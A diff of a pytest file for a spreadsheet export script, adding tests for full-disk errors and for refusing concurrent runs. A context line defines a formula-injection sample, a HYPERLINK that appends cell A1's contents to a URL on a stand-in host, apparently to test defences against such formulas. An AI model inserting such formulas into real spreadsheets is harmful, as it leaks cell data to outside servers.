@@ -15,6 +15,7 @@ import openpyxl
 import polars
 import pytest
 
+from scripts.driving.alone import alone_in
 from scripts.export import WORKBOOK, ExportProblem, export, main
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"queue")'
@@ -200,6 +201,27 @@ def test_files_are_for_owner_and_group_and_replaced_only_as_a_whole(
         export(broken, tmp_path)
     assert (tmp_path / WORKBOOK).read_text() == "from before"
     assert sorted(path.name for path in tmp_path.iterdir()) == ["broken.duckdb", WORKBOOK]
+
+
+def test_a_full_disk_is_told(
+    published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The device that is always full, in the workbook's place.
+    monkeypatch.setattr("scripts.export.WORKBOOK", "/dev/full")
+    with pytest.raises(ExportProblem, match=r"cannot be written .*No space left on device"):
+        export(copied(published, tmp_path), tmp_path / "out")
+    assert list((tmp_path / "out").iterdir()) == []
+
+
+def test_one_export_at_a_time(published: Path, tmp_path: Path) -> None:
+    under_way = tmp_path / ".writing-now"
+    under_way.mkdir()
+    with (
+        alone_in(tmp_path),
+        pytest.raises(ExportProblem, match="Another run is writing into"),
+    ):
+        export(published, tmp_path)
+    assert list(tmp_path.iterdir()) == [under_way]
 
 
 def test_without_a_published_file_it_says_what_to_do(
